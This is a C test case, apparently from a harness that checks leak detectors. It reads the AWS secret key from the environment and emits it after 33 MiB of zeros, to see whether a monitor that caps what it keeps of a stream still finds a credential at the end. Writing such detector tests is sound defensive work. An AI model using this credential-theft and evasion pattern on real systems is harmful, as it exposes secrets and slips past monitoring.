// SPDX-License-Identifier: MIT
/*
 * The credential after 33 MiB of nothing, as the very last bytes. Caps are for what is kept of a
 * stream, not for what is searched: breached.
 */
#include "attacks/attack.h"

#include <stdlib.h>
#include <string.h>

enum { BLOCKS = 33 * 16 };

static enum claim run(const struct brief *b)
{
	static char block[1 << 16];
	const char *secret = getenv("AWS_SECRET_ACCESS_KEY");

	attempting(b);
	for (int i = 0; i < BLOCKS; i++)
		loot(block, sizeof(block));
	if (secret)
		loot(secret, strlen(secret));
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "a credential leaves, behind a flood",
	.means = "33 MiB of zeros before it",
	.oracle = "secret:environ",
	.remedy = "to read streams to their end",
	.run = run,
};
